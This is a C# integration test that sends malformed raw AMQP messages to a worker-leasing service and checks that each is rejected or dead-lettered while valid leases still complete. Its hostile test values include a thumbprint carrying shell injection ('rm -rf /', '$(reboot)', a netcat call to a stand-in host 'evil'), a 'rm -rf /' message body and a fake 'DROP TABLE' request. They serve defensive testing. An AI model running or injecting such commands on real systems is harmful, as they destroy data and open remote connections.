using DynamicWorkers.Contracts;
using DynamicWorkers.IntegrationTests.Support;
using MassTransit;

namespace DynamicWorkers.IntegrationTests.Reliability;

/// <summary>
/// Invariant 6, on the real broker with the services as processes: raw AMQP messages that no MassTransit client
/// would send, published to the public exchanges and sent straight to the queues, while valid leases flow. Each
/// bad message gets a <c>LeaseRejected</c> with a reason or lands in its endpoint's <c>_error</c> queue with its
/// exception (a message type no endpoint consumes lands in <c>_skipped</c>); every valid lease completes; no saga
/// row is corrupted; every consumer keeps consuming.
/// </summary>
public sealed class HostileInputTests(RabbitMqTestVirtualHost broker, PostgresTestDatabase database)
    : IClassFixture<RabbitMqTestVirtualHost>, IClassFixture<PostgresTestDatabase>, IAsyncLifetime
{
    const string Pool = "ubuntu-22.04";
    const string Urn = "urn:message:DynamicWorkers.Contracts:";
    const string LeaseRequestedExchange = "DynamicWorkers.Contracts:LeaseRequested";

    LifecycleCluster _cluster = null!;

    IReadOnlyDictionary<string, string?> Settings
        => broker.Settings.Concat(database.Settings).Concat(new Dictionary<string, string?>
    {
        [$"Pools:{Pool}:HotTarget"] = "3",
        [$"Pools:{Pool}:MaxWorkers"] = "12",
        [$"Pools:{Pool}:AllocationTimeout"] = "00:01:00",
        ["Pools:windows-2022:HotTarget"] = "0",
        ["Lifecycle:IdleTimeout"] = "00:00:30",
        ["Scheduler:ClusterCheckinInterval"] = "00:00:01",
        ["Cloud:Simulated:ProvisionDelay"] = "00:00:00.500",
        ["Cloud:Simulated:TrustDelay"] = "00:00:00.100",
        ["Cloud:Simulated:DeleteDelay"] = "00:00:00.100",
    }).ToDictionary();

    public async Task InitializeAsync()
        => _cluster = await LifecycleCluster.StartAsync(Settings, database.ConnectionString,
            ["LeaseSaga", "Provisioner", "Trust"]);

    public async Task DisposeAsync() => await _cluster.DisposeAsync();

    [Fact]
    public async Task Bad_messages_are_rejected_or_dead_lettered_while_valid_leases_complete()
    {
        await using var raw = await RawAmqp.ConnectAsync(broker.Name);
        var valid = Task.WhenAll(Enumerable.Range(0, 4).Select(i => _cluster.PlayInstanceAsync(
            $"good-{i}", Pool, 5, n => n == 0, TimeSpan.FromSeconds(60), seed: i)));

        var thumbprint = LifecycleCluster.ThumbprintOf("hostile");
        string Lease(Guid id, string instance = "hostile", string? print = null, string pool = Pool, string task = "t")
            => $$"""{"leaseId":"{{id}}","instanceId":"{{instance}}","serverThumbprint":"{{print ?? thumbprint}}","pool":"{{pool}}","taskId":"{{task}}","requestedAt":"{{DateTimeOffset.UtcNow:O}}"}""";

        // Requests the lease saga must answer with a rejection and a reason.
        var expectRejected = new Dictionary<Guid, (string What, string Reason)>();
        async Task Rejected(string what, string reason, Func<Guid, string> message)
        {
            var id = Guid.NewGuid();
            expectRejected[id] = (what, reason);
            await raw.PublishAsync(LeaseRequestedExchange, RawAmqp.Envelope(Guid.NewGuid().ToString(),
                Urn + "LeaseRequested", message(id)), Guid.NewGuid().ToString());
        }

        await Rejected("missing fields", LeaseRejectionReasons.InvalidRequest, id => $$"""{"leaseId":"{{id}}"}""");
        await Rejected("1 MB instance id", LeaseRejectionReasons.InvalidRequest,
            id => Lease(id, instance: new string('x', 1024 * 1024)));
        await Rejected("shell metacharacters in the thumbprint", LeaseRejectionReasons.InvalidRequest,
            id => Lease(id, print: "abc; rm -rf / $(reboot) `id` | nc evil 1"));
        await Rejected("unknown pool", LeaseRejectionReasons.UnknownPool, id => Lease(id, pool: "no-such-pool"));
        await Rejected("10,000-character pool name", LeaseRejectionReasons.UnknownPool,
            id => Lease(id, pool: new string('p', 10_000)));
        await Rejected("10,000-character task id", LeaseRejectionReasons.InvalidRequest,
            id => Lease(id, task: new string('t', 10_000)));

        // Messages that must land in an _error queue, with the exception that refused them.
        var expectError = new Dictionary<string, (string What, string Queue)>();
        async Task Error(string what, string queue, string destination, string body, bool toQueue = false,
            string contentType = RawAmqp.MassTransitJson)
        {
            var messageId = Guid.NewGuid().ToString();
            expectError[messageId] = (what, queue);
            await raw.PublishAsync(destination, body, messageId, toQueue, contentType);
        }

        await Error("invalid JSON", "lease-state_error", LeaseRequestedExchange,
            """{"messageType":["urn:message:DynamicWorkers.Contracts:LeaseRequested"],"message":{"leaseId":""");
        await Error("not JSON, unknown content type", "lease-state_error", LeaseRequestedExchange, "rm -rf /",
            contentType: "text/plain");
        await Error("wrong field type (number for the lease id)", "lease-state_error", LeaseRequestedExchange,
            RawAmqp.Envelope(Guid.NewGuid().ToString(), Urn + "LeaseRequested",
                """{"leaseId":42,"instanceId":["a"],"pool":{}}"""));
        await Error("invalid JSON straight to the queue", "lease-state_error", "lease-state", "\u0000\u0001 not json",
            toQueue: true);
        await Error("negative idle timeout", "set-instance-lifecycle_error",
            "DynamicWorkers.Contracts:SetInstanceLifecycle",
            RawAmqp.Envelope(Guid.NewGuid().ToString(), Urn + "SetInstanceLifecycle",
                """{"instanceId":"hostile","idleTimeout":"-00:05:00"}"""));
        await Error("absurd max worker age", "set-instance-lifecycle_error",
            "DynamicWorkers.Contracts:SetInstanceLifecycle",
            RawAmqp.Envelope(Guid.NewGuid().ToString(), Urn + "SetInstanceLifecycle",
                """{"instanceId":"hostile","maxWorkerAge":"10675199.02:48:05"}"""));
        await Error("wrong field type in SetInstanceLifecycle", "set-instance-lifecycle_error",
            "set-instance-lifecycle",
            RawAmqp.Envelope(Guid.NewGuid().ToString(), Urn + "SetInstanceLifecycle",
                """{"instanceId":"hostile","maxLeaseDuration":true}"""), toQueue: true);
        await Error("negative pool size", "pool-keeper_error", "DynamicWorkers.Contracts:SetPoolSize",
            RawAmqp.Envelope(Guid.NewGuid().ToString(), Urn + "SetPoolSize",
                $$"""{"pool":"{{Pool}}","hotTarget":-5,"maxWorkers":-1}"""));
        await Error("resizing an unknown pool", "pool-keeper_error", "DynamicWorkers.Contracts:SetPoolSize",
            RawAmqp.Envelope(Guid.NewGuid().ToString(), Urn + "SetPoolSize",
                """{"pool":"no-such-pool","hotTarget":1,"maxWorkers":2}"""));
        await Error("a pool size beyond the configuration's bounds", "pool-keeper_error",
            "DynamicWorkers.Contracts:SetPoolSize",
            RawAmqp.Envelope(Guid.NewGuid().ToString(), Urn + "SetPoolSize",
                $$"""{"pool":"{{Pool}}","hotTarget":2000,"maxWorkers":1000000}"""));
        await Error("a blank pool image", "pool-keeper_error", "DynamicWorkers.Contracts:SetPoolImage",
            RawAmqp.Envelope(Guid.NewGuid().ToString(), Urn + "SetPoolImage",
                $$"""{"pool":"{{Pool}}","image":"  "}"""));
        await Error("an image for an unknown pool", "pool-keeper_error", "DynamicWorkers.Contracts:SetPoolImage",
            RawAmqp.Envelope(Guid.NewGuid().ToString(), Urn + "SetPoolImage",
                """{"pool":"no-such-pool","image":"image"}"""));
        await Error("a sweep with no grace", "sweep-overdue-timers_error",
            "DynamicWorkers.Contracts.Internal:SweepOverdueTimers",
            RawAmqp.Envelope(Guid.NewGuid().ToString(), "urn:message:DynamicWorkers.Internal:SweepOverdueTimers",
                """{"grace":"00:00:00"}"""));
        await Error("unknown message type", "lease-state_skipped", LeaseRequestedExchange,
            RawAmqp.Envelope(Guid.NewGuid().ToString(), "urn:message:Evil:DropTables",
                """{"sql":"DROP TABLE leases"}"""));

        await valid;

        // Every bad request was answered with its reason.
        await Eventually.True(
            () => expectRejected.Keys.All(id => _cluster.Ledger.OutcomesOf(id).Count > 0),
            TimeSpan.FromSeconds(30),
            "a rejection for every bad request: missing " + string.Join(", ",
                expectRejected.Where(e => _cluster.Ledger.OutcomesOf(e.Key).Count == 0).Select(e => e.Value.What)),
            _cluster.Diagnostics);
        foreach (var (id, (what, reason)) in expectRejected)
        {
            var outcome = Assert.IsType<LeaseRejected>(Assert.Single(_cluster.Ledger.OutcomesOf(id)));
            Assert.True(outcome.Reason == reason, $"{what}: {outcome.Reason} ({outcome.Detail}), expected {reason}");
            Assert.False(string.IsNullOrWhiteSpace(outcome.Detail), what);
        }

        // Every other bad message sits in its _error (or _skipped) queue, with the exception that refused it.
        var landed = new Dictionary<string, (string Queue, RawMessage Message)>();
        await Eventually.True(
            async () =>
            {
                foreach (var queue in expectError.Values.Select(e => e.Queue).Distinct())
                {
                    foreach (var message in await raw.DrainAsync(queue))
                    {
                        landed[message.MessageId ?? ""] = (queue, message);
                    }
                }

                return expectError.Keys.All(landed.ContainsKey);
            },
            TimeSpan.FromSeconds(30),
            "every bad message in its error queue",
            () => "missing: " + string.Join(", ", expectError.Where(e => !landed.ContainsKey(e.Key))
                .Select(e => $"{e.Value.What} (expected in {e.Value.Queue})"))
                  + "\nlanded: " + string.Join(", ",
                      landed.Select(l => $"{l.Value.Queue}: {l.Value.Message.Headers.GetValueOrDefault("MT-Reason")} "
                  + $"{l.Value.Message.Headers.GetValueOrDefault("MT-Fault-Message")}"))
                  + "\n" + _cluster.Diagnostics());
        foreach (var (messageId, (what, queue)) in expectError)
        {
            var (landedIn, message) = landed[messageId];
            Assert.True(landedIn == queue, $"{what}: landed in {landedIn}, expected {queue}");
            if (queue.EndsWith("_error", StringComparison.Ordinal))
            {
                Assert.True(message.Headers.TryGetValue("MT-Fault-ExceptionType", out var type) && type.Length > 0,
                    $"{what}: no exception recorded; headers: "
                        + $"{string.Join(", ", message.Headers.Select(h => h.Key + "=" + h.Value))}");
            }
        }

        // The valid leases all completed, and the same services still serve a new one after all this.
        var validLeases = _cluster.Ledger.Requests.Where(
            r => r.InstanceId.StartsWith("good-", StringComparison.Ordinal)).Select(r => r.LeaseId).Distinct().ToList();
        Assert.Equal(20, validLeases.Count);
        Assert.All(validLeases, id => Assert.IsType<LeaseGranted>(_cluster.Ledger.OutcomesOf(id)[0]));
        await _cluster.PlayInstanceAsync("after-the-storm", Pool, 1, _ => false, TimeSpan.FromSeconds(60), seed: 99);
        Assert.All(_cluster.Services, s => Assert.False(s.HasExited, s.Output));

        // No saga row is corrupted: every lease is in a known state with a sane instance id, the pool's size is sane.
        Assert.Equal(0, await _cluster.ScalarAsync(
            "SELECT count(*) FROM leases WHERE \"CurrentState\" NOT IN ('Allocating', 'WaitingForWorker', 'Granted', "
                + "'Released', 'Revoked', 'Rejected') OR length(\"InstanceId\") > 200"));
        Assert.Equal(expectRejected.Count + 21, await _cluster.ScalarAsync("SELECT count(*) FROM leases"));
        Assert.Equal(0, await _cluster.ScalarAsync(
            "SELECT count(*) FROM pools WHERE \"HotTarget\" < 0 OR \"HotTarget\" > \"MaxWorkers\""));

        // Every queue a bad message reached still has its consumer.
        var consumers = await raw.ConsumersAsync(expectError.Values.Select(e => e.Queue).Where(q => q.EndsWith("_error",
            StringComparison.Ordinal)).Select(q => q[..^"_error".Length]).Append("lease-state").Distinct());
        var violations = InvariantChecker.Check(_cluster.Ledger, await _cluster.CloudAsync(),
            await _cluster.ServiceAsync(consumers), expectAllDeleted: false);
        Assert.True(violations.Count == 0, string.Join("\n", violations));
    }
}
